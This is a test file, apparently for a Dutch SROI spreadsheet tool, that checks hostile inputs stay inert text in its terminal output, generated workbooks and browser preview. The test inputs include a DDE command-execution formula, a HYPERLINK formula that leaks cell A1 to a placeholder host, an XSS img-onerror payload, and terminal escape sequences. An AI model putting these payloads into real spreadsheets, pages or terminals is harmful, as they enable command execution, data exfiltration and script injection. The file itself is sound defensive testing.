import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { XlsxWorkbook } from '#adapters/xlsx'
import { describeInBrowser } from '../support/in-browser'
import { fileOf, monitoringSheets } from '../support/monitoring-file'
import { visitPreview } from '../support/preview-page'
import { sroi, sroiJson } from '../support/sroi'

// Texts that do something where they are taken for more than text: in a sheet, a web page, a terminal, a CSV file.
const FORMULAS = ['=HYPERLINK("https://x.example/?"&A1;"klik")', "+1+cmd|' /C calc'!A0", '@SUM(1;1)', '-2+3', '\t=1+1']
const MARKUP = ['<img src=x onerror=alert(1)>', '</t></is></c><c><f>1+1</f>', '&lt;script&gt;', ']]>']
const TERMINAL = [
  '\u001b[2J\u001b[31mrood',
  '\u001b]0;titel\u0007',
  '\u009b31m',
  'a\rb',
  '\u202eomgekeerd',
  '\u0000nul',
]
const HOSTILE = [...MARKUP, ...FORMULAS, ...TERMINAL]
/** Where the rows stand that our native sums add up. */
const SHEET = "O'pdr=<b>&amp;"

let folder: string
let file: string

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'sroi-hostile-'))
  file = join(folder, 'kwartaal.xlsx')
  const sheets = monitoringSheets()
  const [headers = [], first = []] = sheets['Opdrachten'] ?? []
  const [inzetHeaders = [], row = []] = sheets['Inzet'] ?? []
  // As contract, as its name, its contractor, and as a block and a status that nobody knows.
  const contracts = HOSTILE.map((text) => [text, text, text, ...first.slice(3)])
  const efforts = HOSTILE.map((text) => [text, text, text, text, ...row.slice(4, 10), text])
  writeFileSync(
    file,
    await fileOf({
      Opdrachten: [headers, ...contracts],
      [SHEET]: [[...inzetHeaders, ...HOSTILE], ...efforts],
    }),
  )
})
afterAll(() => rmSync(folder, { recursive: true, force: true }))

/** Characters that steer a terminal instead of being shown; a line end is ours. */
const STEERING = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/

describe('hostile texts', () => {
  it.each(['nl', 'en'])('never steer the terminal: validate in %s', async (language) => {
    const { out, err } = await sroi('validate', '--lang', language, file)
    expect(out.length).toBeGreaterThan(500)
    expect(out.split('\n').filter((line) => STEERING.test(line))).toEqual([])
    expect(err).toBe('')
  })

  it('are quoted in findings without what nobody sees', async () => {
    const { json } = await sroiJson<{ files: { findings: { code: string; message: string }[] }[] }>('validate', file)
    const messages = json.files.flatMap(({ findings }) => findings.map(({ message }) => message))
    expect(messages.filter((message) => message.includes('omgekeerd')).length).toBeGreaterThan(2)
    expect(messages.filter((message) => /[\p{Cc}\p{Cf}]/u.test(message))).toEqual([])
  })

  it.each([
    ['import', 'a catalogue with such labels'],
    ['validate', 'a file that is no workbook'],
  ])('never steer the terminal: %s %s', async (command) => {
    const path = join(folder, `${command}.csv`)
    writeFileSync(
      path,
      `Bouwblok;Waarde\n${HOSTILE.map((text) => `"${text.replaceAll('"', '""')}";€ 10.000`).join('\n')}\n`,
    )
    const { out, err } = await sroi(command, path)
    expect(`${out}${err}`).not.toBe('')
    expect(`${out}${err}`.split('\n').filter((line) => STEERING.test(line))).toEqual([])
  })

  it('never steer the terminal: eval', async () => {
    const { out } = await sroi('eval', '=CHAR(27)&"[2J"')
    expect(STEERING.test(out)).toBe(false)
    expect((await sroiJson('eval', '=CHAR(27)&"[2J"')).json).toEqual({ value: '\u001b[2J' })
  })

  it('never steer the terminal: a file or an option called so', async () => {
    for (const argv of [['validate', `${folder}/\u001b[2J.xlsx`], ['\u001b[2Jx'], ['validate', '--\u001b[2J', file]]) {
      const { code, err } = await sroi(...argv)
      expect([code, STEERING.test(err.trimEnd())]).toEqual([2, false])
    }
  })

  it('are texts in our tabs: no formula holds them, but for the name of a sheet between quotes', async () => {
    const out = join(folder, 'uit.xlsx')
    const { code } = await sroi('summarise', file, '--out', out)
    expect([0, 1]).toContain(code)
    const workbook = await XlsxWorkbook.open(readFileSync(out)).read()
    const ours = workbook.sheets.filter(({ name }) => name.startsWith('SROI '))
    const cells = ours.flatMap(({ rows }) => rows.flatMap((row) => row.cells))
    const formulas = cells.flatMap(({ formula }) => formula ?? [])
    expect(formulas.length).toBeGreaterThan(10)
    const quoted = `'${SHEET.replaceAll("'", "''")}'!`
    expect(formulas.some((formula) => formula.includes(quoted))).toBe(true)
    for (const formula of formulas) {
      const rest = formula.replaceAll(quoted, '')
      expect(HOSTILE.filter((text) => text !== '-2+3' && rest.includes(text.trim()))).toEqual([])
    }
    const texts = cells.flatMap(({ value, formula }) =>
      typeof value === 'string' && formula === undefined ? value : [],
    )
    expect(texts.some((text) => text.includes('<img src=x onerror=alert(1)>'))).toBe(true)
  })
})

describeInBrowser('hostile texts in the page', (at) => {
  it('are texts: in sheet names, cells, findings and our tabs', async () => {
    const { page, pane, faults, close } = await visitPreview(at)
    const asked: string[] = []
    page.on('dialog', (dialog) => {
      asked.push(dialog.message())
      void dialog.dismiss()
    })
    await page.locator('input[type=file]').first().setInputFiles(file)
    await page.getByRole('navigation').getByRole('tab', { name: SHEET, exact: true }).click()
    await page
      .getByText(MARKUP[0] ?? '')
      .first()
      .waitFor()
    page.setDefaultTimeout(20_000)
    await pane.getByRole('tab', { name: 'Controle', exact: true }).click()
    await pane.getByRole('button', { name: 'Controleer deze werkmap' }).click()
    const group = pane.getByRole('heading').getByRole('button', { expanded: false })
    await group.first().waitFor()
    for (let left = await group.count(); left > 0; left--) await group.first().click()
    await pane
      .getByText(MARKUP[0] ?? '')
      .first()
      .waitFor()
    await pane.getByRole('tab', { name: 'Samenvatting', exact: true }).click()
    await pane.getByRole('button', { name: 'Maak samenvatting' }).click()
    await pane.getByText('De samenvatting is klaar').first().waitFor()
    expect(await page.locator('img[src="x"], [onerror], b:text("&amp;")').count()).toBe(0)
    expect(asked).toEqual([])
    expect(faults).toEqual([])
    await close()
  }, 120_000)
})
